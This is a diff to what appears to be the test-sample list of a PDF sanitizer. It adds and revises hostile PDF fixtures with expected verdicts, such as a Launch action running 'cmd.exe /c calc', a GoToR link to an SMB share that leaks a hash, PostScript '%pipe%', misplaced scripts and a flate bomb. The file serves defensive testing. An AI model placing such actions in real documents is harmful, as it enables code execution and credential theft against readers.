@@ -4,6 +4,8 @@ from __future__ import annotations
 
 from samples.build import _pdf_benign as benign
 from samples.build import _pdf_hostile as hostile
+from samples.build import _pdf_misplaced as misplaced
+from samples.build._pdf_encryption import encrypted_by_aes_256
 from samples.build._pdf_hostile import SCRIPT, Build, annotation, catalog, embedded, link_with, page
 from samples.sample import Sample
 
@@ -60,7 +62,15 @@ SAMPLES: tuple[Sample, ...] = (
         more=("pdf.javascript", "pdf.form_script"),
     ),
     _hostile(
-        "launch", "launch", "starts a program", link_with("<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"), b"cmd.exe"
+        "launch", "launch", "starts a program", link_with("<</S/Launch/F(setup.exe)/Win<</F(setup.exe)/P(/q)>>>>"), b"setup.exe"
+    ),
+    Sample(
+        "hostile/pdf/launch_command.pdf",
+        "hostile",
+        "pdf",
+        "starts a command line, which the signatures know",
+        link_with("<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
+        verdict="blocked",
     ),
     _hostile(
         "goto_remote", "goto_remote", "leaks a hash over SMB", link_with("<</S/GoToR/F(//192.0.2.7/share/x.pdf)/D[0/Fit]>>"), _SHARE
@@ -178,13 +188,23 @@ SAMPLES: tuple[Sample, ...] = (
         hostile.trailing_data,
         b"SECRET-TAIL",
     ),
-    _hostile(
-        "leading_data",
-        "trailing_data",
-        "script before the header",
+    Sample(
+        "hostile/pdf/leading_data.pdf",
+        "hostile",
+        "pdf",
+        "script before the header: the system would run it",
         hostile.leading_data,
-        b"SECRET-HEAD",
+        verdict="blocked",
     ),
+    _hostile("destination_scripts", "javascript", "actions where destinations belong", misplaced.destination_scripts, _SCRIPT),
+    _hostile(
+        "tag_scripts", "javascript", "tags that look like actions", misplaced.tag_scripts, _SCRIPT, b"/JavaScript", b"/Launch"
+    ),
+    _hostile("trailer_scripts", "javascript", "actions in trailer, Info and page tree", misplaced.trailer_scripts, _SCRIPT),
+    _hostile("field_appearance", "content_operator", "PostScript in DA", misplaced.field_appearance, b"%pipe%"),
+    _hostile("giant_function", "damaged", "sampled function without samples", misplaced.giant_function, b"SECRET-SAMPLES"),
+    _hostile("broken_picture", "damaged", "JPEG that is none", misplaced.broken_picture, b"SECRET-JPEG"),
+    _hostile("owner_password_aes", "encryption_owner", "owner password only, AES-256", encrypted_by_aes_256),
     _hostile(
         "content_operators",
         "content_operator",
@@ -221,14 +241,12 @@ SAMPLES: tuple[Sample, ...] = (
         features=("pdf.font_program",),
         verdict="flattened",
     ),
-    Sample(
-        "hostile/pdf/postscript_function.pdf",
-        "hostile",
-        "pdf",
+    _hostile(
+        "postscript_function",
+        "postscript_function",
         "PostScript outside the calculator's list",
         hostile.postscript_function,
-        features=("pdf.postscript_function",),
-        verdict="flattened",
+        b"%pipe%",
     ),
     Sample(
         "malformed/pdf/empty_page_tree.pdf",
@@ -239,5 +257,5 @@ SAMPLES: tuple[Sample, ...] = (
         verdict="review",
     ),
     Sample("malformed/pdf/page_loop.pdf", "malformed", "pdf", "page tree that loops", hostile.page_loop, verdict="review"),
-    Sample("malformed/pdf/flate_bomb.pdf", "malformed", "pdf", "two gibibytes of drawing", hostile.flate_bomb, verdict="review"),
+    Sample("malformed/pdf/flate_bomb.pdf", "malformed", "pdf", "two gibibytes of drawing", hostile.flate_bomb, verdict="failed"),
 )
